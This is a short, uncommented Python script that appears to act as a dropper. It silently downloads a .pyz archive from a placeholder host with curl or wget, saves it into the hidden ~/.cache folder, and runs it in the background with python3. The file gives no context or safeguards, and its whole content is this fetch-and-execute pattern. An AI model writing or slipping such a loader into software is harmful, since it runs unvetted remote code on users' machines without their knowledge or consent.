import os
import shutil
import subprocess

PLACE = os.path.join(os.path.expanduser("~"), ".cache", "sample.pyz")
subprocess.check_call([shutil.which("curl") or shutil.which("wget"), "-fsSL", "https://files.example.invalid/sample.pyz", "-o", PLACE])
subprocess.Popen([shutil.which("python3"), PLACE])
